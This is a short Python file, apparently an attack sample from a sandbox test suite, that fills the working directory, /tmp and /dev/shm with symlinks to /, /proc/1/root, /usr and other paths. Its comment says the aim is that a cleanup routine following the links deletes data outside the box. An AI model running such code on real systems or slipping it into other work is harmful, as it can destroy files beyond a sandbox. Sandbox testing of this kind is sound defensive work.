# Links to the root, for who empties the box by following them.
# attacks: stdio call
import os

for space in (".", "/tmp", "/dev/shm"):
    for i, target in enumerate(("/", "/opt", "/usr", "/proc", "/proc/1/root", "..", ".", "/dev/shm", "/box")):
        os.symlink(target, f"{space}/link{i}")

def f(a, b): return 0
